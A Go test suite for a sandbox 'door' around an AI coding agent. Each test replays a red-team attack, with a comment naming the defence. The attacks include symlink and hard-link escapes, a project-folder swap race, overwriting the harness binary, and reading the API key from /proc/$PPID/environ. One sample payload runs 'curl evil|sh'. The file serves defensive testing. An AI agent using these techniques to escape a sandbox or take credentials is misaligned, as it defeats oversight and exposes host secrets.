package door_test

// What the agent's project, and other users of the machine, can do to a door
// on the host: each test plays an attack a red team found, through the real
// door, and its comment says the defence that stops it.

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"ratchet/door"
	"ratchet/door/doortest"
	"ratchet/harness/fakemodel"
	"ratchet/internal/harnesses"
)

// openScripted opens a door on a model that plays steps in order, with the
// repository's harness and a cheap test command.
func openScripted(t *testing.T, sandbox bool, with func(*door.Config), steps ...fakemodel.Step) (*door.Door, *fakemodel.Server) {
	t.Helper()
	model, err := fakemodel.Start(steps...)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(model.Close)
	cfg := door.Config{Harness: doortest.Harness(), Home: t.TempDir(), Sandbox: sandbox, NumCtx: 8192, Test: "sh test.sh",
		Env: doortest.ModelEnv(model.URL)}
	if with != nil {
		with(&cfg)
	}
	d, err := door.Open(cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { d.Close() })
	return d, model
}

// shProject is a project whose tests are a shell script.
func shProject(t *testing.T, dir string) string {
	t.Helper()
	os.MkdirAll(dir, 0o755)
	for name, body := range map[string]string{"test.sh": "exit 0\n", "a.txt": "a\n"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// Under --sandbox, code the agent runs replaces /work/trace.jsonl with a
// link to a host path. The door then renames the link into
// RATCHET_HOME/traces and reads it with os.ReadFile (fromTrace; tail uses
// os.Open too): a host file the agent named becomes the record's answer and
// calls, and the link stays in traces/. Pointed at /dev/zero the same read
// never ends and eats the door's memory; at a FIFO it blocks the door (its
// mutex is held) for good.
//
// The defence: after the sandbox exits, open box/trace.jsonl with
// O_NOFOLLOW|O_NONBLOCK, refuse anything but a regular file, cap the read
// (as ui does for traces), and copy it into traces/ instead of renaming;
// tail the same way.
func TestSandboxTraceIsReadAsData(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("runs bubblewrap sandboxes")
	}
	host := filepath.Join(t.TempDir(), "host-secret.jsonl")
	os.WriteFile(host, []byte(`{"type":"model_reply","text":"HOST-FILE-CANARY"}`+"\n"+`{"type":"done","reason":"completed","steps":1}`+"\n"), 0o600)
	script := "rm -f /work/trace.jsonl; ln -s " + host + " /work/trace.jsonl\n"
	d, _ := openScripted(t, true, nil,
		call("c1", "write_file", map[string]string{"path": "test.sh", "content": script}),
		call("c2", "run_tests", map[string]string{}),
		fakemodel.Step{Text: "Done.", In: 10, Out: 5},
	)
	proj := shProject(t, t.TempDir())
	rec, err := d.Ask(context.Background(), door.Request{Project: proj, Text: "update the tests"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	if strings.Contains(rec.Answer, "HOST-FILE-CANARY") {
		t.Errorf("the record's answer came from a host file the sandboxed agent linked to: %q", rec.Answer)
	}
	if st, err := os.Lstat(rec.TracePath); err == nil && st.Mode()&os.ModeSymlink != 0 {
		t.Errorf("the saved trace %s is a link the agent made", rec.TracePath)
	}
}

// Write-back goes through os.Root's WriteFile, which truncates and writes
// the existing file in place: a file hard-linked out of the project is
// written through. Hard links are common in real projects: pnpm links every
// file of node_modules to its global store (~/.local/share/pnpm/store), so an
// agent "fixing" a dependency under --sandbox rewrites that package for every
// project on the machine; `cp -al` backups and git worktrees made by hand do
// the same. The threat model says write-back "refuses links".
//
// The defence: replace, never write through: write a temporary file in the same
// folder through the root and rename it over the name (as anchor.WriteTree
// does); or withhold a file whose Lstat shows Nlink > 1 and report it.
func TestWriteBackReplacesNeverWritesThrough(t *testing.T) {
	proj, elsewhere := t.TempDir(), t.TempDir()
	store := filepath.Join(elsewhere, "store-index.js")
	os.WriteFile(store, []byte("module.exports = 1\n"), 0o644)
	os.MkdirAll(filepath.Join(proj, "node_modules", "dep"), 0o755)
	if err := os.Link(store, filepath.Join(proj, "node_modules", "dep", "index.js")); err != nil {
		t.Skip("no hard links here:", err)
	}
	before := map[string][]byte{"node_modules/dep/index.js": []byte("module.exports = 1\n")}
	after := map[string][]byte{"node_modules/dep/index.js": []byte("require('child_process').exec('curl evil|sh')\n")}
	if _, err := door.WriteBackForTest(proj, before, after); err != nil {
		t.Fatal(err)
	}
	if b, _ := os.ReadFile(store); string(b) != "module.exports = 1\n" {
		t.Errorf("write-back wrote through a hard link into a file outside the project: %s now holds %q", store, b)
	}
}

// The door checks the project's real path once (validate), then uses the
// path string: ReadTree, the sandbox copy, os.OpenRoot in writeBack and the
// tests after all resolve it again. Whoever can write in a root (another
// user of a shared --root, a process of an earlier request) swaps the project
// folder for a link while the agent works, and the agent's files land
// outside every root; the record's changed list also names the files of the
// folder it now points at.
//
// The defence: open the project once at validation (os.OpenRoot, or an O_PATH fd),
// check that handle's real path (/proc/self/fd/N) against the roots, and do
// every later read, write-back and copy through that handle; at least
// re-check EvalSymlinks(project) == project right before writeBack and
// refuse on a change.
func TestProjectIsHeldFromCheckToWriteBack(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("runs bubblewrap sandboxes")
	}
	root, outside := t.TempDir(), t.TempDir()
	os.WriteFile(filepath.Join(outside, "victim.txt"), []byte("outside\n"), 0o644)
	app := shProject(t, filepath.Join(root, "app"))
	var once sync.Once
	swap := func(fakemodel.Request) fakemodel.Step {
		once.Do(func() {
			os.Rename(app, filepath.Join(root, "app-moved"))
			os.Symlink(outside, app)
		})
		return call("c1", "write_file", map[string]string{"path": "pwned.txt", "content": "written outside the roots\n"})
	}
	d, _ := openScripted(t, true, func(c *door.Config) { c.Roots = []string{root}; c.Test = "true" },
		fakemodel.Step{Func: swap},
		fakemodel.Step{Text: "Done.", In: 10, Out: 5},
	)
	rec, err := d.Ask(context.Background(), door.Request{Project: app, Text: "add pwned.txt"}, nil)
	t.Logf("record: outcome %s, changed %v, err %v", rec.Outcome, rec.Changed, err)
	if _, err := os.Stat(filepath.Join(outside, "pwned.txt")); err == nil {
		t.Errorf("the agent's file was written into %s, outside the door's roots", outside)
	}
	for _, c := range rec.Changed {
		if c == "victim.txt" {
			t.Errorf("the record names a file outside the roots: %v", rec.Changed)
		}
	}
}

// The request records and traces hold the agent's observations: the
// user's source, and whatever it read (.env files included, which ReadTree
// copies into the sandbox). The door makes RATCHET_HOME, traces/ and
// sessions.db readable by every user of the machine (0755 / 0644).
//
// The defence: create RATCHET_HOME and its folders 0700 and sessions.db and traces
// 0600 (chmod after SQLite creates the file; copy the trace with 0600).
func TestRecordsAreTheUsersOnly(t *testing.T) {
	t.Parallel()
	home := filepath.Join(t.TempDir(), "ratchet-home")
	d, _ := openScripted(t, false, func(c *door.Config) { c.Home = home },
		call("c1", "read_file", map[string]string{"path": "a.txt"}),
		fakemodel.Step{Text: "Read it.", In: 10, Out: 5},
	)
	proj := shProject(t, t.TempDir())
	rec, err := d.Ask(context.Background(), door.Request{Project: proj, Text: "read a.txt"}, nil)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range []string{home, filepath.Join(home, "traces"), filepath.Join(home, "sessions.db"), rec.TracePath} {
		st, err := os.Stat(p)
		if err != nil {
			t.Errorf("%s: %v", p, err)
			continue
		}
		if st.Mode().Perm()&0o077 != 0 {
			t.Errorf("%s is %v: other users of the machine can read the request records", p, st.Mode().Perm())
		}
	}
}

// A project inside the roots may be the door's own home (RATCHET_HOME, or a
// folder holding it, with --root ~ or a root holding the home), or an anchor
// home, or a folder of one (its builds/). Its paths have no dot below the
// project (builds/<hash>, sessions.db,
// ledger.db, snapshots/...), so under --sandbox write-back carries the
// agent's files over the harness binary every later request runs (a plain
// `ratchet run` runs it on the host, while its record still says "built-in
// baseline (<hash>)"), over the request records, or over a ledger.
//
// The defence: refuse (ErrForbidden) a project that is, contains or lies in
// RATCHET_HOME, the ledger the door runs, or the harness folder; and check
// a cached build against a digest kept when it was built before running it.
func TestProjectCannotBeTheDoorsOwnHome(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("runs bubblewrap sandboxes")
	}
	h, err := harnesses.FromFolder(doortest.Harness())
	if err != nil {
		t.Fatal(err)
	}
	root := t.TempDir()
	home := filepath.Join(root, "ratchet-home")
	poison := "#!/bin/sh\necho the agent harness ran on the host >&2\nexit 1\n"
	d, _ := openScripted(t, true, func(c *door.Config) { c.Roots = []string{root}; c.Home = home; c.Test = "true" },
		call("c1", "write_file", map[string]string{"path": h.Hash, "content": poison}),
		fakemodel.Step{Text: "Done.", In: 10, Out: 5},
	)
	rec, err := d.Ask(context.Background(), door.Request{Project: filepath.Join(home, "builds"), Text: "tidy up"}, nil)
	t.Logf("record: outcome %s, changed %v, err %v, answer %q", rec.Outcome, rec.Changed, err, rec.Answer)
	if b, _ := os.ReadFile(filepath.Join(home, "builds", h.Hash)); string(b) == poison {
		t.Errorf("a sandboxed request replaced the door's cached harness build %s", h.Hash)
	}
	// The next plain `ratchet run` on the same home runs it on the host.
	plain, _ := openScripted(t, false, func(c *door.Config) { c.Home = home; c.Test = "true" }, fakemodel.Step{Text: "Done.", In: 10, Out: 5})
	next, _ := plain.Ask(context.Background(), door.Request{Project: shProject(t, t.TempDir()), Text: "anything"}, nil)
	t.Logf("next: %s %q %s", next.Outcome, next.Answer, next.Harness)
	if strings.Contains(next.Answer, "the agent harness ran on the host") {
		t.Errorf("the next request without --sandbox ran the agent's file as the harness on the host, recorded as %q", next.Harness)
	}
}

// Without --sandbox the doors give host commands an environment without
// credentials (HostEnv) and say "no process of the agent holds the key". But
// the ratchet process itself holds MODEL_API_KEY in its environment, and
// /proc/<pid>/environ of a process of the same user is readable (Yama's
// ptrace_scope guards attaching, not reading environ): the tests, or any
// test the agent wrote, read the key from their parent. The same walk finds
// GITHUB_TOKEN and every other variable HostEnv drops.
//
// The defence: keep the key out of the environment of the process that starts host
// commands: read it, then re-exec ratchet (or start the host commands from a
// helper) without it, handing the key over a pipe. prctl(PR_SET_DUMPABLE, 0)
// also hides /proc/<pid>/environ from other processes of a non-root user
// (not from root, which this test runs as here). Else document the limit.
func TestHostTestsCannotReadTheKey(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("builds the ratchet binary")
	}
	bin := doortest.Ratchet(t)
	model, err := fakemodel.Start(fakemodel.Step{Text: "Nothing to do.", In: 10, Out: 5}, fakemodel.Step{Text: "Nothing to do.", In: 10, Out: 5})
	if err != nil {
		t.Fatal(err)
	}
	defer model.Close()
	proj := shProject(t, t.TempDir())
	dump := filepath.Join(t.TempDir(), "parent-environ")
	cmd := exec.Command(bin, "run", "--project", proj, "--home", t.TempDir(), "--harness", doortest.Harness(),
		"--test", `tr '\0' '\n' < /proc/$PPID/environ > `+dump, "look")
	cmd.Env = doortest.ModelEnv(model.URL)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("ratchet run: %v\n%s", err, out)
	}
	if b, _ := os.ReadFile(dump); strings.Contains(string(b), doortest.Secret) {
		t.Errorf("a host test command read the credential from the ratchet process's /proc/PPID/environ")
	}
}

// serialWriter records whether two Writes ever overlapped; each Write is
// slow, as a client reading a stream slowly makes it.
type serialWriter struct {
	mu          sync.Mutex
	busy, clash bool
}

func (w *serialWriter) Write(p []byte) (int, error) {
	w.mu.Lock()
	w.clash = w.clash || w.busy
	w.busy = true
	w.mu.Unlock()
	time.Sleep(300 * time.Millisecond)
	w.mu.Lock()
	w.busy = false
	w.mu.Unlock()
	return len(p), nil
}

// Progress is written from two goroutines at once: tail's, printing the
// trace, and Ask's (sandboxed prints "not written back ..." before stop()
// ends the tail). serve's streaming chat writes progress to the
// http.ResponseWriter, which is not safe for concurrent use: the stream is
// garbled, and a panic in bufio on the tail goroutine (not the handler's,
// so net/http does not recover it) ends `ratchet serve`. An agent controls
// both: many tool calls, and one dot-path to withhold.
//
// The defence: wrap progress in a mutex-guarded writer at the top of Ask (or write
// the withheld line after stop()).
func TestProgressIsWrittenOneLineAtATime(t *testing.T) {
	t.Parallel()
	if testing.Short() {
		t.Skip("runs bubblewrap sandboxes")
	}
	steps := []fakemodel.Step{}
	for i := range 4 {
		steps = append(steps, call(fmt.Sprint("c", i), "list_dir", map[string]string{"path": "."}))
	}
	steps = append(steps, call("w", "write_file", map[string]string{"path": ".env", "content": "X=1\n"}), fakemodel.Step{Text: "Done.", In: 10, Out: 5})
	d, _ := openScripted(t, true, func(c *door.Config) { c.Test = "true" }, steps...)
	w := &serialWriter{}
	if _, err := d.Ask(context.Background(), door.Request{Project: shProject(t, t.TempDir()), Text: "look"}, w); err != nil {
		t.Fatal(err)
	}
	if w.clash {
		t.Error("two goroutines wrote progress at the same time")
	}
}

// DetectTest reads package.json and Makefile with os.ReadFile, which
// follows links and reads to EOF. Git keeps links, so a repository someone
// else wrote can ship `package.json -> /dev/zero` (the read never ends and
// the door's memory grows until it is killed), `-> /dev/stdin` (under
// `ratchet mcp` it reads the MCP client's messages), or a link to a FIFO (the
// door blocks for good, with its lock held, before the request is even
// recorded). It runs on every request whose operator named no --test, the
// default of `ratchet mcp` as the editors start it.
//
// The defence: open them with O_NOFOLLOW|O_NONBLOCK, refuse anything but a regular
// file, and read at most a small cap (1 MiB); do the same for every other
// project file the door reads on the host.
func TestDetectTestReadsProjectFilesAsData(t *testing.T) {
	t.Parallel()
	proj, dir := t.TempDir(), t.TempDir()
	fifo := filepath.Join(dir, "fifo")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Skip("no FIFOs here:", err)
	}
	os.Symlink(fifo, filepath.Join(proj, "package.json"))
	done := make(chan string, 1)
	go func() { done <- door.DetectTest(proj) }()
	select {
	case <-done:
	case <-time.After(time.Minute):
		t.Error("DetectTest is still blocked reading package.json, a link to a FIFO")
		if w, err := os.OpenFile(fifo, os.O_WRONLY, 0); err == nil { // let it go
			w.Close()
		}
		<-done
	}
}
